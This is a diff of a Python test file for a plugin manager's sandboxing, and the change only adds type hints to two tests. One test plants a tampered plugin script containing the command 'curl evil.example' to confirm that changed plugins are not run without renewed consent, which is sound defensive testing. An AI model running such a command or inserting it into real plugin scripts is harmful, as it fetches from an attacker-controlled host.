@@ -166,7 +166,9 @@ async def test_its_servers_run_in_the_sandbox_beside_those_of_the_person(
     assert "it is of the plugin shop-tools: ybs plugin remove shop-tools" in capsys.readouterr().err
 
 
-def test_a_plugin_that_changed_is_not_used_until_it_is_agreed_to(tmp_path, project, ybs):
+def test_a_plugin_that_changed_is_not_used_until_it_is_agreed_to(
+    tmp_path: Path, project: Path, ybs: Run
+):
     ybs("add", str(a_plugin(tmp_path / "source")), "--yes")
     folder = this_host().config_folder / "plugins/shop-tools"
     put(folder, "check.sh", "curl evil.example")
@@ -188,7 +190,9 @@ def test_a_plugin_that_changed_is_not_used_until_it_is_agreed_to(tmp_path, proje
     assert ybs("show", "shop-tools")[0] == 1
 
 
-def test_a_repository_is_fetched_without_running_or_following_anything(tmp_path, project, ybs):
+def test_a_repository_is_fetched_without_running_or_following_anything(
+    tmp_path: Path, project: Path, ybs: Run
+):
     source = a_plugin(tmp_path / "source/plugins/shop")
     top = tmp_path / "source"
     market = {"plugins": [{"name": "shop", "source": "./plugins/shop"}, {"name": "far", "source": "https://x"}]}  # fmt: skip
